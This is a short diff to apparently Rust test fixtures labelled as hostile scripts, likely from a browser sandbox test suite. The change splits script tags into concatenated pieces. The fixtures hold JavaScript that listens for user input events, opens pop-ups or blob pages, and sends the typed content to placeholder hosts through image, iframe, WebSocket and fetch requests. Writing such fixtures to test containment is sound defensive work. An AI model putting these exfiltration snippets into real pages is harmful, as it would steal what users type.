@@ -51,14 +51,14 @@ for (const kind of ['mousedown', 'input', 'click']) addEventListener(kind, all, 
         "writes-into-pop-ups",
         "const write = () => {
   const tab = window.open();
-  tab?.document.write('<img src=\"@FOREIGN@/written?' + encodeURIComponent(typed()) + '\"><iframe src=\"@FOREIGN@/written-frame\"></iframe><script>new WebSocket(\"@SOCKET@/written\")</scr' + 'ipt>');
+  tab?.document.write('<img src=\"@FOREIGN@/written?' + encodeURIComponent(typed()) + '\"><iframe src=\"@FOREIGN@/written-frame\"></iframe><scr' + 'ipt>new WebSocket(\"@SOCKET@/written\")</scr' + 'ipt>');
 };
 for (const kind of ['mousedown', 'input', 'click']) addEventListener(kind, write, true);",
     ),
     Hostility::script(
         "pop-ups-of-its-own-making",
         "const make = () => {
-  const page = '<script>fetch(\"@FOREIGN@/made?\" + encodeURIComponent(opener ? opener.typed?.() : 1))</scr' + 'ipt>';
+  const page = '<scr' + 'ipt>fetch(\"@FOREIGN@/made?\" + encodeURIComponent(opener ? opener.typed?.() : 1))</scr' + 'ipt>';
   const blob = URL.createObjectURL(new Blob([page], { type: 'text/html' }));
   for (const features of ['', 'noopener', 'popup']) window.open(blob, '_blank', features);
 };
